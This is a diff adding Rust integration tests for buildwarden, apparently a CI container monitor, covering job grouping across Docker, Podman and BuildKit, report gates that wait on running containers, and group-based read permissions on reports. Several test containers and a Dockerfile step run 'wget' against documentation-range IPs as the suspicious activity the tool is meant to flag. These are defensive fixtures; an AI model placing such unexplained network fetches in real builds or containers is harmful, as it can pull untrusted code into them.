@@ -1,8 +1,14 @@
 //! Jobs: how they are told, and their reports and gates.
 
-use crate::harness::{Dir, Docker, Podman, until};
-use buildwarden::report::model::Job;
-use std::fs;
+use crate::harness::{Container, Dir, Docker, Podman, run, until};
+use buildwarden::report::model::{Job, JobReport};
+use std::{
+    fs,
+    io::{BufRead as _, BufReader},
+    os::unix::fs::{MetadataExt as _, PermissionsExt as _},
+    path::Path,
+    process::{Child, Command, Stdio},
+};
 
 /// Waits until a run's annotation log has a line with this in it.
 #[track_caller]
@@ -94,4 +100,163 @@ fn root_docker_exec_names_the_job() {
     let advice = finding.advice.join("\n");
     assert!(advice.contains("acme/web/42/1/build/r1"), "{advice}");
     dir.expect_nothing_live();
+}
+
+/// `report --job JOB` as JSON.
+#[track_caller]
+fn job_report(dir: &Dir, job: &str) -> JobReport {
+    let done = run(&mut dir.buildwarden(["report", "--job", job, "--format", "json"]));
+    serde_json::from_slice(&done.stdout).unwrap_or_else(|error| panic!("{error}: {done}"))
+}
+
+#[test]
+fn root_a_job_is_all_its_containers_and_builds_and_no_others() {
+    let dir = Dir::new();
+    let docker = Docker::new(&dir);
+    let podman = Podman::new(&dir);
+    let both = [("acme/web/7", "true"), ("acme/web/8", "wget http://198.51.100.41/x; true")];
+    std::thread::scope(|scope| {
+        for (job, script) in both {
+            let (docker, podman) = (&docker, &podman);
+            scope.spawn(move || {
+                let variables = ["CI_PROJECT_PATH=acme/web", &format!("CI_JOB_ID={}", &job[9..])];
+                let annotation = format!("dev.buildwarden.job={job}");
+                let options = ["--rm", "-e", variables[0], "-e", variables[1]];
+                docker.run(&options, script).expect_code(0);
+                let args = ["--rm", "--annotation", &annotation, "img:1", "sh", "-c", script];
+                podman.run(&args).expect_code(0);
+            });
+        }
+    });
+    for (job, script) in both {
+        for buildkit in [false, true] {
+            let variables = ["CI_PROJECT_PATH=acme/web", &format!("CI_JOB_ID={}", &job[9..])];
+            let options = ["--build-arg", variables[0], "--build-arg", variables[1]];
+            let dockerfile =
+                format!("FROM img:1\nARG CI_PROJECT_PATH\nARG CI_JOB_ID\nRUN true\nRUN {script}\n");
+            docker.build(buildkit, &options, &dockerfile).expect_code(0);
+        }
+    }
+    for (job, code, findings) in [("acme/web/7", 0, 0), ("acme/web/8", 10, 4)] {
+        let args = ["report", "--job", job, "--fail-on", "medium", "--expect", "6"];
+        run(&mut dir.buildwarden(args)).expect_code(code);
+        let report = job_report(&dir, job);
+        assert_eq!(report.containers.len(), 6, "{report:?}");
+        assert_eq!(report.findings.critical + report.findings.medium, findings, "{report:?}");
+        assert!(report.is_complete(), "{report:?}");
+        let mut engines: Vec<_> =
+            report.containers.iter().filter_map(|c| c.container.engine.as_deref()).collect();
+        engines.sort();
+        let want = ["buildkit", "buildkit", "docker", "docker", "docker", "podman"];
+        assert_eq!(engines, want, "{report:?}");
+    }
+    run(&mut dir.buildwarden(["report", "--job", "acme/web", "--fail-on", "medium"]))
+        .expect_code(11);
+    dir.expect_nothing_live();
+}
+
+/// A gate that waits, on a job's containers.
+fn gate(dir: &Dir, args: &[&str]) -> (Child, BufReader<std::process::ChildStderr>) {
+    let mut command = dir.buildwarden(["report", "--job", "j", "--fail-on", "medium"]);
+    let command = command.args(args).stdout(Stdio::null()).stderr(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    let stderr = BufReader::new(child.stderr.take().unwrap());
+    (child, stderr)
+}
+
+#[test]
+fn root_a_gate_waits_for_containers_that_run() {
+    let dir = Dir::new();
+    for (id, script, code) in [("clean", "true", 0), ("found", "wget http://198.51.100.42/x", 10)] {
+        let script = format!("echo >/sync/ready; read _ </sync/go; {script}");
+        let container = Container::new(&dir, id).annotation("dev.buildwarden.job", "j");
+        let container = container.script(&script);
+        let mut running = container.start();
+        running.ready();
+        // What runs at the end of the time is no reason to pass.
+        let (mut late, _) = gate(&dir, &["--timeout", "50ms"]);
+        assert_eq!(late.wait().unwrap().code(), Some(11), "{id}");
+        let (mut excluding, _) = gate(&dir, &["--exclude", id]);
+        assert_eq!(excluding.wait().unwrap().code(), Some(0), "{id}");
+
+        let (mut waiting, mut stderr) = gate(&dir, &[]);
+        let mut line = String::new();
+        stderr.read_line(&mut line).unwrap();
+        assert!(line.contains(&format!("until these have ended: {id}")), "{line}");
+        running.go();
+        assert_eq!(waiting.wait().unwrap().code(), Some(code), "{id}");
+        running.finish();
+    }
+    dir.expect_nothing_live();
+}
+
+/// A group that every Debian has.
+const GROUP: (&str, u32) = ("games", 60);
+
+/// `buildwarden ARG…` as a user who is in these groups alone.
+fn as_user(dir: &Dir, groups: &str, args: &[&str]) -> Command {
+    // Where the build lies, not everybody may look.
+    let program = dir.path("buildwarden");
+    if !program.exists() {
+        fs::copy(env!("CARGO_BIN_EXE_buildwarden"), &program).unwrap();
+    }
+    let mut command = Command::new("setpriv");
+    command.args(["--reuid=65534", "--regid=65534", groups, "--bounding-set=-all"]);
+    command.args(["--inh-caps=-all", "--no-new-privs"]).arg(program).args(args);
+    command.env("BUILDWARDEN_CONFIG", dir.config()).current_dir("/");
+    command
+}
+
+#[test]
+fn root_a_group_reads_reports_and_strangers_do_not() {
+    let dir = Dir::new();
+    fs::set_permissions(dir.path(""), fs::Permissions::from_mode(0o711)).unwrap();
+    // It was there before anybody thought of a group.
+    Container::new(&dir, "before").script("true").run().expect_code(0);
+    dir.report("before");
+    dir.expect_nothing_live();
+    dir.configure(&format!("[keep]\ngroup = {:?}", GROUP.0));
+    let container = Container::new(&dir, "after").annotation("dev.buildwarden.job", "j");
+    let script = "echo >/sync/ready; read _ </sync/go; wget http://198.51.100.43/x";
+    let container = container.script(script);
+    let mut running = container.start();
+    running.ready();
+    let member = |args: &[&str]| run(&mut as_user(&dir, "--groups=60", args));
+    let stranger = |args: &[&str]| run(&mut as_user(&dir, "--clear-groups", args));
+
+    let listed = member(&["list"]);
+    assert!(listed.stdout().contains("after") && listed.stdout().contains("running"), "{listed}");
+    running.go();
+    running.finish();
+    dir.report("after");
+    dir.expect_nothing_live();
+
+    let path = dir.state().join("containers/after");
+    let mode = |path: &Path| {
+        let metadata = fs::metadata(path).unwrap();
+        (metadata.permissions().mode() & 0o7777, metadata.uid(), metadata.gid())
+    };
+    assert_eq!(mode(&path), (0o2750, 0, GROUP.1));
+    for file in ["annotations.jsonl", "execs.jsonl", "report.json"] {
+        assert_eq!(mode(&path.join(file)), (0o640, 0, GROUP.1), "{file}");
+    }
+    assert_eq!(mode(&dir.state().join("redaction.salt")), (0o640, 0, 0));
+
+    let shown = member(&["report", "after", "--fail-on", "medium"]).expect_code(10);
+    assert!(shown.stdout().contains("198.51.100.43"), "{shown}");
+    // What cannot be read is said, and hides nothing else.
+    let listed = member(&["list"]).expect_code(1);
+    assert!(listed.stdout().contains("after"), "{listed}");
+    let whom = "run this as root, or as a member of the `group` in the configuration";
+    assert!(listed.stderr().contains("containers/before") && listed.stderr().contains(whom));
+    let gate = member(&["report", "--job", "j", "--fail-on", "critical"]).expect_code(11);
+    assert!(gate.stdout().contains("before"), "{gate}");
+    for args in [&["list"][..], &["report", "after"], &["report", "--job", "j"]] {
+        let refused = stranger(args).expect_code(1);
+        assert!(refused.stderr().contains(whom) && refused.stdout().is_empty(), "{refused}");
+    }
+    run(Command::new("chgrp").arg("-R").arg(GROUP.0).arg(dir.state().join("containers/before")))
+        .expect_code(0);
+    member(&["list"]).expect_code(0);
+    member(&["report", "--job", "j", "--fail-on", "critical"]).expect_code(0);
 }
